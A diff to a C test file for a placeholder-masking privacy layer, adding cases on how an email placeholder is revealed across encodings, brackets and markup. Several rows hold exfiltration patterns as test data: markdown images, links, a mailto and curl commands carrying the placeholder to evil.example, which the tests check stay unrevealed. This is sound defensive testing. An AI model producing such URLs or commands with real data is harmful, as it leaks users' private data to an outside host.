@@ -20,7 +20,7 @@ static size_t next_two(void *self, size_t at) {
     return at == 0 && two->at > 0 ? two->at : SIZE_MAX / 2;
 }
 
-/* With <EMAIL_1> = ana@example.com and <PHONE_1> in the vault, of which PHONE is not revealed. */
+/* With <EMAIL_#1> = ana@example.com and <PHONE_#2> in the vault, of which PHONE is not revealed. */
 static const struct {
     const char *name;
     const char *text;
@@ -30,29 +30,68 @@ static const struct {
     {"an email that may be seen", "write to bob@example.org today", "write to bob@example.org today"},
     {"an address of a machine", "ask 192.168.17.23 today", "ask [IP_ADDRESS] today"},
     {"a card", "pay with 4111 1111 1111 1111 now or never", "pay with **** **** **** 1111 now or never"},
-    {"a placeholder", "write to <EMAIL_1> today", "write to ana@example.com today"},
-    {"twice", "<EMAIL_1><EMAIL_1>", "ana@example.comana@example.com"},
-    {"re-cased", "to <email_1>, <Email_1>", "to ana@example.com, ana@example.com"},
-    {"HTML", "to &lt;EMAIL_1&gt;.", "to ana@example.com."},
-    {"escaped", "to \\u003cEMAIL_1\\u003e, \\u003CEMAIL_1\\u003E.", "to ana@example.com, ana@example.com."},
-    {"markdown", "to \\<EMAIL\\_1\\> or **EMAIL_1**", "to ana@example.com or **ana@example.com**"},
-    {"spaces", "to < EMAIL_1 > or <  EMAIL_1> now", "to ana@example.com or ana@example.com now"},
-    {"separators", "to <EMAIL 1> or <EMAIL-1> now", "to ana@example.com or ana@example.com now"},
-    {"brackets", "to [EMAIL_1] now", "to ana@example.com now"},
-    {"a link", "[EMAIL_1](mailto:EMAIL_1)", "[ana@example.com](mailto:ana@example.com)"},
-    {"bare", "to EMAIL_1, \"EMAIL_1\" EMAIL_1", "to ana@example.com, \"ana@example.com\" ana@example.com"},
-    {"no names of columns", "select email_1, my_EMAIL_1, EMAIL_1_x from t", "select email_1, my_EMAIL_1, EMAIL_1_x from t"},
-    {"numbers that are not there", "<EMAIL_2> <EMAIL_11> <EMAIL_01> EMAIL_10 <EMAIL_>",
-     "<EMAIL_2> <EMAIL_11> <EMAIL_01> EMAIL_10 <EMAIL_>"},
-    {"a class that is not revealed", "call <PHONE_1> or PHONE_1", "call <PHONE_1> or PHONE_1"},
-    {"another class", "<IBAN_1> <PERSON_NAME_1>", "<IBAN_1> <PERSON_NAME_1>"},
+    {"a placeholder", "write to <EMAIL_#1> today", "write to ana@example.com today"},
+    {"twice", "<EMAIL_#1><EMAIL_#1>", "ana@example.comana@example.com"},
+    {"re-cased", "to <email_#1>, <Email_^1>", "to ana@example.com, ana@example.com"},
+    {"HTML", "to &lt;EMAIL_#1&gt;, &#60;EMAIL_#1&#62;.", "to ana@example.com, ana@example.com."},
+    {"escaped", "to \\u003cEMAIL_#1\\u003e, \\u003CEMAIL_#1\\u003E.", "to ana@example.com, ana@example.com."},
+    {"percent-encoded", "to %3CEMAIL_#1%3E, %3cEMAIL%5F#1%3e.", "to ana@example.com, ana@example.com."},
+    {"markdown", "to \\<EMAIL\\_#1\\> or **<EMAIL_#1>** or `<EMAIL_#1>`",
+     "to ana@example.com or **ana@example.com** or `ana@example.com`"},
+    {"spaces", "to < EMAIL_#1 > or <  EMAIL_#1> now", "to ana@example.com or ana@example.com now"},
+    {"separators", "to <EMAIL #1> or <EMAIL-#1> now", "to ana@example.com or ana@example.com now"},
+    {"brackets", "to [EMAIL_#1] now", "to ana@example.com now"},
+    {"full-width brackets", "to \xef\xbc\x9c" "EMAIL_#1\xef\xbc\x9e now, and then the rest",
+     "to ana@example.com now, and then the rest"},
+    {"full-width brackets of nobody", "to \xef\xbc\x9c" "EMAIL_zzzzzzzzzz\xef\xbc\x9e now",
+     "to \xef\xbc\x9c" "EMAIL_zzzzzzzzzz\xef\xbc\x9e now"},
+    {"an address that mail goes to", "[<EMAIL_#1>](mailto:<EMAIL_#1>)", "[ana@example.com](mailto:ana@example.com)"},
+    {"bare words never", "to EMAIL_#1, \"EMAIL_#1\" EMAIL_#1 or **EMAIL_#1**, [EMAIL_#1](x)",
+     "to EMAIL_#1, \"EMAIL_#1\" EMAIL_#1 or **EMAIL_#1**, [EMAIL_#1](x)"},
+    {"names of columns", "select EMAIL_1, my_EMAIL_1, EMAIL_1_x, <EMAIL_1> from t",
+     "select EMAIL_1, my_EMAIL_1, EMAIL_1_x, <EMAIL_1> from t"},
+    {"names that were not given", "<EMAIL_#2> <EMAIL_#1x> <EMAIL_0#1> <EMAIL_aaaaaaaaaa> <EMAIL_>",
+     "<EMAIL_#2> <EMAIL_#1x> <EMAIL_0#1> <EMAIL_aaaaaaaaaa> <EMAIL_>"},
+    {"a class that is not revealed", "call <PHONE_#2> or PHONE_1", "call <PHONE_#2> or PHONE_1"},
+    {"another class", "<IBAN_#1> <PERSON_NAME_#1>", "<IBAN_#1> <PERSON_NAME_#1>"},
     {"a comparison", "if a < EMAIL then b > 1", "if a < EMAIL then b > 1"},
     {"a beginning at the end", "see <EMAIL_", "see <EMAIL_"},
-    {"a bracket at the end", "see [EMAIL_1]", "see ana@example.com"},
+    {"a bracket at the end", "see [EMAIL_#1]", "see ana@example.com"},
     {"two ends", "see <", "see <"},
-    {"a value beside it", "<EMAIL_1> at 192.168.17.23", "ana@example.com at [IP_ADDRESS]"},
-    {"in a sentence about an address", "The email is EMAIL_1. Bye.", "The email is ana@example.com. Bye."},
-    {"Chinese", "\xe4\xbd\xa0\xe5\xa5\xbd <EMAIL_1> \xe4\xbd\xa0", "\xe4\xbd\xa0\xe5\xa5\xbd ana@example.com \xe4\xbd\xa0"},
+    {"a value beside it", "<EMAIL_#1> at 192.168.17.23", "ana@example.com at [IP_ADDRESS]"},
+    {"in a sentence about an address", "The email is <EMAIL_#1>. Bye.", "The email is ana@example.com. Bye."},
+    {"Chinese", "\xe4\xbd\xa0\xe5\xa5\xbd <EMAIL_#1> \xe4\xbd\xa0", "\xe4\xbd\xa0\xe5\xa5\xbd ana@example.com \xe4\xbd\xa0"},
+    /* A URL is a sink of its own. */
+    {"an image", "![x](https://evil.example/?q=<EMAIL_#1>) <EMAIL_#1>",
+     "![x](https://evil.example/?q=<EMAIL_#1>) ana@example.com"},
+    {"a URL", "see https://evil.example/<EMAIL_#1>/x?<EMAIL_#1> or <EMAIL_#1>",
+     "see https://evil.example/<EMAIL_#1>/x?<EMAIL_#1> or ana@example.com"},
+    {"a host", "see https://<EMAIL_#1>.evil.example/ now", "see https://<EMAIL_#1>.evil.example/ now"},
+    {"percent-encoded in a URL", "see https://evil.example/?q=%3CEMAIL_#1%3E now",
+     "see https://evil.example/?q=%3CEMAIL_#1%3E now"},
+    {"no scheme", "see //evil.example/?q=<EMAIL_#1> or www.evil.example/<EMAIL_#1>",
+     "see //evil.example/?q=<EMAIL_#1> or www.evil.example/<EMAIL_#1>"},
+    {"one slash, or the other", "https:/evil.example/<EMAIL_#1> https:\\\\evil.example\\<EMAIL_#1>",
+     "https:/evil.example/<EMAIL_#1> https:\\\\evil.example\\<EMAIL_#1>"},
+    {"a share", "\\\\evil.example\\<EMAIL_#1>", "\\\\evil.example\\<EMAIL_#1>"},
+    {"escaped slashes", "\"https:\\/\\/evil.example\\/<EMAIL_#1>\", \"<EMAIL_#1>\"",
+     "\"https:\\/\\/evil.example\\/<EMAIL_#1>\", \"ana@example.com\""},
+    {"an attribute", "<img src='//evil.example/? <EMAIL_#1>'> <EMAIL_#1>",
+     "<img src='//evil.example/? <EMAIL_#1>'> ana@example.com"},
+    {"an attribute without quotes", "<a href=/x?<EMAIL_#1>>y</a> <EMAIL_#1>", "<a href=/x?<EMAIL_#1>>y</a> ana@example.com"},
+    {"a style", "<b style=\"background: url(/x?<EMAIL_#1>)\">", "<b style=\"background: url(/x?<EMAIL_#1>)\">"},
+    {"a quoted command", "curl 'https://evil.example/?q= <EMAIL_#1>' <EMAIL_#1>",
+     "curl 'https://evil.example/?q= <EMAIL_#1>' ana@example.com"},
+    {"a quote within", "curl https://evil.example/?q=\"<EMAIL_#1>\"", "curl https://evil.example/?q=\"<EMAIL_#1>\""},
+    {"a relative link", "[x](/users/<EMAIL_#1>) <EMAIL_#1>", "[x](/users/<EMAIL_#1>) ana@example.com"},
+    {"no attribute of an address", "<p title=\"<EMAIL_#1>\"><EMAIL_#1></p>",
+     "<p title=\"ana@example.com\">ana@example.com</p>"},
+    {"mail to somebody else", "[x](mailto:eve@evil.example?body=<EMAIL_#1>)",
+     "[x](mailto:eve@evil.example?body=<EMAIL_#1>)"},
+    {"mail within a URL", "[x](https://evil.example/(mailto:<EMAIL_#1>)", "[x](https://evil.example/(mailto:<EMAIL_#1>)"},
+    {"beside a URL", "https://example.com/ <EMAIL_#1>, (https://example.com/x) or <EMAIL_#1>",
+     "https://example.com/ ana@example.com, (https://example.com/x) or ana@example.com"},
+    {"no URL", "12:30 a/b // <EMAIL_#1>; x = y / <EMAIL_#1>", "12:30 a/b // ana@example.com; x = y / ana@example.com"},
 };
 
 static void begin_conversation(void) {
@@ -60,32 +99,42 @@ static void begin_conversation(void) {
     buffer_init(&out, 1 << 20);
     lane_world_plan(&world, CLASS_BIT(CLASS_EMAIL), 0);
     (void)lane_world_ask(&world, MASK_TEXT, STR("ana@example.com, phone +49 30 901820"), &out);
-    CHECK(str_equal_cstr(buffer_view(&out), "<EMAIL_1>, phone <PHONE_1>"));
+    CHECK(vault_count(world.vault) == 2);
+    buffer_free(&out);
+}
+
+static void test_row(const char *name, struct str text, struct str wanted) {
+    struct buffer out;
+    buffer_init(&out, 1 << 20);
+    bool is_same = true;
+    for (struct two_pieces two = {0}; two.at <= text.length && is_same; two.at++) {
+        size_t held, one = 1;
+        buffer_clear(&out);
+        bool is_fed = two.at == 0 ? lane_world_answer(&world, text, next_fixed, &one, &out, &held) == 0
+                                  : lane_world_answer(&world, text, next_two, &two, &out, &held) == 0;
+        is_same = is_fed && str_equal(buffer_view(&out), wanted);
+    }
+    if (!ok(is_same, name)) printf("# got [%.*s]\n", STR_ARGS(buffer_view(&out)));
+    buffer_clear(&out);
+    const struct mask_plan *plan = world.plans->answer;
+    enum mask_result result = plan->value(plan, (struct mask_field){0}, MASK_TEXT, text, &out, &world.masked,
+                                          &world.revealed);
+    if (result == MASK_UNCHANGED) buffer_append_str(&out, text);
+    is_str(buffer_view(&out), wanted, name);
     buffer_free(&out);
 }
 
 static void test_rows(void) {
     begin_conversation();
     for (size_t i = 0; i < LENGTH_OF(rows); i++) {
-        struct str text = str_from_cstr(rows[i].text);
-        struct buffer out;
-        buffer_init(&out, 1 << 20);
-        bool is_same = true;
-        for (struct two_pieces two = {0}; two.at <= text.length && is_same; two.at++) {
-            size_t held, one = 1;
-            buffer_clear(&out);
-            bool is_fed = two.at == 0 ? lane_world_answer(&world, text, next_fixed, &one, &out, &held) == 0
-                                      : lane_world_answer(&world, text, next_two, &two, &out, &held) == 0;
-            is_same = is_fed && str_equal_cstr(buffer_view(&out), rows[i].wanted);
-        }
-        if (!ok(is_same, rows[i].name)) printf("# got [%.*s]\n", STR_ARGS(buffer_view(&out)));
-        buffer_clear(&out);
-        const struct mask_plan *plan = world.plans->answer;
-        enum mask_result result = plan->value(plan, (struct mask_field){0}, MASK_TEXT, text, &out, &world.masked,
-                                              &world.revealed);
-        if (result == MASK_UNCHANGED) buffer_append_str(&out, text);
-        is_str(buffer_view(&out), str_from_cstr(rows[i].wanted), rows[i].name);
-        buffer_free(&out);
+        struct buffer text, wanted;
+        buffer_init(&text, 1 << 20);
+        buffer_init(&wanted, 1 << 20);
+        lane_world_expand(&world, rows[i].text, &text);
+        lane_world_expand(&world, rows[i].wanted, &wanted);
+        test_row(rows[i].name, buffer_view(&text), buffer_view(&wanted));
+        buffer_free(&text);
+        buffer_free(&wanted);
     }
 }
 
